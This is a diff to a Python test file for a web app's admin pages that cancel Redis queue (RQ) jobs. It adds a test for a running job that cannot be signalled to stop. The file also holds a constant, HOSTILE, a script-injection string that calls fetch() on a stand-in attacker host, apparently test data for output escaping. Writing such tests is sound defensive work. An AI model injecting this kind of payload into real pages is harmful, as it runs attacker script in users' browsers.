@@ -10,6 +10,7 @@ from rq.results import Result
 from rq.serializers import JSONSerializer
 
 from tests.support.people import post_form
+from webapp.extensions import make_redis
 from webapp.jobspecs import JobRequest, Queue, push, rq_queue
 
 HOSTILE = "x');fetch('//evil.example');('"
@@ -121,6 +122,19 @@ def test_a_waiting_job_is_cancelled(browser, connection):
     assert post_form(browser, f"/admin/rq/jobs/{job_id}/cancel", "/admin").status_code == 303
     assert rq_queue(connection, Queue.TURN).job_ids == []
     assert job_id in browser.get("/admin/rq/queues/turn/canceled").text
+
+
+def test_a_running_job_that_cannot_be_told_to_stop(app, browser, connection, silent_redis_url, monkeypatch):
+    """Redis may keep channels from its users: stopping needs one, cancelling what waits does not."""
+    running, waiting = (push(connection, JobRequest("title", {"conversation_id": number})) for number in (7, 8))
+    worker = Worker([rq_queue(connection, Queue.TURN)], connection=connection, serializer=JSONSerializer)
+    worker.prepare_execution(job := rq_queue(connection, Queue.TURN).fetch_job(running))
+    worker.prepare_job_execution(job)
+    with make_redis(silent_redis_url) as silent:
+        monkeypatch.setitem(app.extensions, "redis", silent)
+        answer = post_form(browser, f"/admin/rq/jobs/{running}/cancel", "/admin")
+        assert answer.status_code == 409 and "does not let us tell a running job to stop" in answer.text
+        assert post_form(browser, f"/admin/rq/jobs/{waiting}/cancel", "/admin").status_code == 303
 
 
 def test_a_job_that_waits_for_its_time_is_run_now(browser, connection):
